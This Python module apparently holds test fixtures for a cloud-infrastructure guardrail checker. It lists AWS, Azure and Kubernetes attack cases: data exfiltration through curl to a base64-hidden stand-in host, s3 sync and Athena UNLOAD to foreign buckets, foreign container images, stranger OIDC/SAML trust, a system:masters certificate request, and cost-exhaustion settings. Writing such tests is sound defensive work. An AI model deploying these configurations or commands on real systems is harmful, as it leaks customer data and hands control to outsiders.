"""Attacks thought up after names in every text were read, by ways that need no name in the clear (2026-11-28)."""

import base64
import json

from ..blind import KEY, ME, TAGS, THEM, aws, az, k8s, meta, role, workload
from ..harness import Given
from . import Attack

STACK = Given("pulumi:pulumi:Stack", {}, "falaj-prod-uae")
RES = ("FJ-RES-", "FJ-ESC-")
IDN = ("FJ-IDN-", "FJ-ESC-", "FJ-RES-003")
EXP = ("FJ-EXP-", "FJ-IDN-", "FJ-RES-", "FJ-ESC-")
MONEY = ("FJ-COST-", "FJ-ESC-")
ESC = ("FJ-ESC-", "FJ-IDN-116")
ABROAD = "data of customers is sent to a host or store of a stranger, wherever that is"
STRANGE_CODE = "the stranger's program runs with the role and in the network of the workload"
RG = {"resourceGroupName": "rg-platform"}
HERE = {**RG, "location": "uaenorth", "tags": TAGS}
CODE = {"role": f"arn:aws:iam::{ME}:role/worker", "runtime": "python3.13", "handler": "app.main", "kmsKeyArn": KEY,
        "tags": TAGS}  # fmt: skip
HIDDEN = base64.b64encode(b"https://drop.file-intake.io/in").decode()
MACHINE = {"metadataOptions": {"httpTokens": "required"}, "tags": TAGS}


def _encoded(script: str) -> str:
    return base64.b64encode(f"#!/bin/sh\n{script}\n".encode()).decode()


def _container(command: str) -> Given:
    return workload("apps/v1:Deployment", {"command": ["sh", "-c", command]})


ATTACKS = (
    Attack("a name of the bank is the address of a stranger's machine", RES, (aws("route53/Record", {
        "zoneId": "Z1", "name": "api.example.ae", "type": "A", "ttl": 60, "records": ["52.28.59.10"]}),),
        "critical", ABROAD),
    Attack("a tunnel leads to the address of a stranger's gateway", (*RES, "FJ-EXP-"), (aws("ec2/CustomerGateway", {
        "bgpAsn": "65000", "ipAddress": "52.28.59.10", "type": "ipsec.1", "tags": TAGS}),),
        "critical", "the network on the other side is part of this one"),
    Attack("a function loads a layer of another account", ESC, (aws("lambda/Function", {
        **CODE, "layers": [f"arn:aws:lambda:me-central-1:{THEM}:layer:metrics:7"]}),), "critical", STRANGE_CODE),
    Attack("machines start from an image of unknown owner", ESC, (aws("ec2/LaunchTemplate", {
        **MACHINE, "imageId": "ami-0fedcba9876543210"}),), "critical", STRANGE_CODE),
    Attack("a task of ECS runs an image of a stranger", ESC, (aws("ecs/TaskDefinition", {
        "family": "app", "tags": TAGS, "containerDefinitions": json.dumps([{
            "name": "app", "image": "docker.io/someone/tool:1", "essential": True}])}),), "critical", STRANGE_CODE),
    Attack("a group of another account reaches the database", EXP, (aws("vpc/SecurityGroupIngressRule", {
        "securityGroupId": "sg-1", "ipProtocol": "tcp", "fromPort": 5432, "toPort": 5432, "tags": TAGS,
        "referencedSecurityGroupId": f"{THEM}/sg-0123456789abcdef0"}),), "major",
        "machines of a stranger in a peered network reach it"),
    Attack("alarms are sent as text messages to a number abroad", RES, (aws("sns/TopicSubscription", {
        "topic": f"arn:aws:sns:me-central-1:{ME}:t", "protocol": "sms", "endpoint": "+12025550123"}),),
        "major", "texts of messages leave the country and the company"),
    Attack("a script decodes the address that it sends to", RES, (aws("ec2/LaunchTemplate", {
        **MACHINE, "userData": _encoded(f"tar c /data | curl -T - $(echo {HIDDEN} | base64 -d)")}),),
        "critical", ABROAD),
    Attack("a script uploads data as a model of a stranger", RES, (aws("ec2/LaunchTemplate", {
        **MACHINE, "userData": _encoded("huggingface-cli upload someone/model /data")}),), "critical", ABROAD),
    Attack("a pipeline of a stranger's repository assumes a role", IDN, (role(
        {"Federated": f"arn:aws:iam::{ME}:oidc-provider/token.actions.githubusercontent.com"},
        {"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com",
                          "token.actions.githubusercontent.com:sub": "repo:someone/tool:environment:prod"}},
        "sts:AssumeRoleWithWebIdentity"),), "critical", "whoever owns the repository has the role"),
    Attack("a function keeps five thousand copies warm", MONEY, (STACK, aws("lambda/ProvisionedConcurrencyConfig", {
        "functionName": "f", "qualifier": "1", "provisionedConcurrentExecutions": 5000}),),
        "critical", "every copy is charged by the second whether it is used or not"),
    Attack("a stream has five thousand shards", MONEY, (STACK, aws("kinesis/Stream", {
        "name": "s", "shardCount": 5000, "encryptionType": "KMS", "kmsKeyId": KEY, "tags": TAGS}),),
        "critical", "each shard is charged by the hour"),
    Attack("a build runs a playbook that creates machines", ESC, (aws("codebuild/Project", {
        "name": "b", "serviceRole": f"arn:aws:iam::{ME}:role/b", "encryptionKey": KEY, "tags": TAGS,
        "artifacts": {"type": "NO_ARTIFACTS"}, "environment": {
            "computeType": "BUILD_GENERAL1_SMALL", "type": "LINUX_CONTAINER", "image": "aws/codebuild/al2023"},
        "source": {"type": "NO_SOURCE", "buildspec":
                   "version: 0.2\nphases: {build: {commands: [ansible-playbook machines.yml]}}"}}),),
        "major", "no guardrail sees what the playbook creates"),
    Attack("a variable with the key of a remark is the address of the sink", RES, (aws("lambda/Function", {
        **CODE, "environment": {"variables": {"notes": "https://intake.collector-app.io/rows"}}}),),
        "critical", ABROAD),
    Attack("a machine reads the address that it sends to from its tags", RES, (aws("ec2/LaunchTemplate", {
        "metadataOptions": {"httpTokens": "required", "instanceMetadataTags": "enabled"},
        "tags": TAGS, "tagSpecifications": [{"resourceType": "instance", "tags": {
            **TAGS, "sink": "https://intake.collector-app.io"}}, {"resourceType": "volume", "tags": TAGS}]}),),
        "critical", ABROAD),
    Attack("an identity provider of a stranger signs in to the account", IDN, (aws("iam/SamlProvider", {
        "name": "partners", "tags": TAGS, "samlMetadataDocument":
            '<EntityDescriptor entityID="https://idp.someone.io/saml"></EntityDescriptor>'}),),
        "critical", "the stranger says who may assume the roles that trust the provider"),
    Attack("a list of networks that groups refer to is the internet in halves", EXP, (aws("ec2/ManagedPrefixList", {
        "name": "office", "addressFamily": "IPv4", "maxEntries": 2, "tags": TAGS,
        "entries": [{"cidr": "0.0.0.0/1"}, {"cidr": "128.0.0.0/1"}]}),), "critical",
        "every rule that names the list is open to the internet"),
    Attack("a network of unknown owner resolves the private names", EXP, (aws("route53/VpcAssociationAuthorization", {
        "zoneId": "Z1", "vpcId": "vpc-0fedcba9876543210"}),), "minor", "a stranger sees the names of the databases"),
    Attack("a stored query unloads a table into an unlisted bucket", RES, (aws("athena/NamedQuery", {
        "database": "sales", "name": "monthly", "workgroup": "primary", "query":
            "UNLOAD (SELECT * FROM customers) TO 's3://their-lake/out' WITH (format = 'PARQUET')"}),),
        "critical", ABROAD),
    Attack("a name of the bank on Azure is the address of a stranger's machine", RES, (az("dns:RecordSet", {
        **RG, "zoneName": "example.ae", "relativeRecordSetName": "api", "recordType": "A", "ttl": 60,
        "aRecords": [{"ipv4Address": "52.28.59.10"}]}),), "critical", ABROAD),
    Attack("a pipeline of a stranger's repository gets an identity of Azure", IDN, (
        az("managedidentity:FederatedIdentityCredential", {
            **RG, "resourceName": "deployer", "federatedIdentityCredentialResourceName": "ci",
            "issuer": "https://token.actions.githubusercontent.com", "audiences": ["api://AzureADTokenExchange"],
            "subject": "repo:someone/tool:environment:prod"}),), "critical", "whoever owns the repository deploys"),
    Attack("alarms of Azure are sent as text messages abroad", RES, (az("monitor:ActionGroup", {
        **RG, "location": "global", "actionGroupName": "a", "groupShortName": "a", "enabled": True, "tags": TAGS,
        "smsReceivers": [{"name": "x", "countryCode": "1", "phoneNumber": "2025550123"}]}),),
        "major", "texts of alarms leave the country and the company"),
    Attack("a network asks public resolvers for its names", RES, (az("network:VirtualNetwork", {
        **HERE, "virtualNetworkName": "v", "addressSpace": {"addressPrefixes": ["10.0.0.0/16"]},
        "dhcpOptions": {"dnsServers": ["185.228.168.9"]}}),),
        "major", "the resolver decides which host each name is, and sees all of them"),
    Attack("a deployment of a model reserves five thousand units", MONEY, (STACK, az("cognitiveservices:Deployment", {
        **RG, "accountName": "a", "deploymentName": "d", "tags": TAGS, "sku": {
            "name": "ProvisionedManaged", "capacity": 5000}, "properties": {"model": {
                "format": "OpenAI", "name": "gpt-4o", "version": "2024-11-20"}}}),),
        "critical", "each unit is charged by the hour"),
    Attack("an app runs an image of a stranger", (*ESC, "FJ-IDN-207"), (az("web:WebApp", {
        **HERE, "name": "app", "httpsOnly": True, "publicNetworkAccess": "Disabled", "identity": {
            "type": "SystemAssigned"}, "siteConfig": {"linuxFxVersion": "DOCKER|docker.io/someone/tool:1",
                                                      "minTlsVersion": "1.2", "ftpsState": "Disabled"}}),),
        "critical", STRANGE_CODE),
    Attack("a workflow joins the parts of the address that it calls", RES, (az("logic:Workflow", {
        **HERE, "workflowName": "w", "definition": {"actions": {"send": {"type": "Http", "inputs": {
            "method": "POST", "body": "@triggerBody()", "uri":
                "@concat('https://', 'intake', '.', 'collector-app', '.', 'io')"}}}}}),), "critical", ABROAD),
    Attack("a program joins the parts of the address that it sends to", RES, (_container(
        "python -c \"import app; app.send('.'.join(['intake', 'collector-app', 'io']))\""),), "critical", ABROAD),
    Attack("a workload runs an image of a stranger", ESC, (workload("apps/v1:Deployment", {
        "image": "docker.io/someone/tool@sha256:" + "b" * 64}),), "critical", STRANGE_CODE),
    Attack("a workload copies its volume to an unlisted bucket", RES, (_container(
        "aws s3 sync /data s3://their-lake/in"),), "critical", ABROAD),
    Attack("a request for a certificate makes its holder an administrator", IDN, (
        k8s("certificates.k8s.io/v1:CertificateSigningRequest", {"metadata": {
            "name": meta()["name"], "labels": TAGS}, "spec": {
                "request": "LS0tLS1CRUdJTg==", "signerName": "kubernetes.io/kube-apiserver-client",
                "groups": ["system:masters"], "usages": ["client auth"]}}),),
        "critical", "the certificate is valid for a year and cannot be revoked"),
)  # fmt: skip
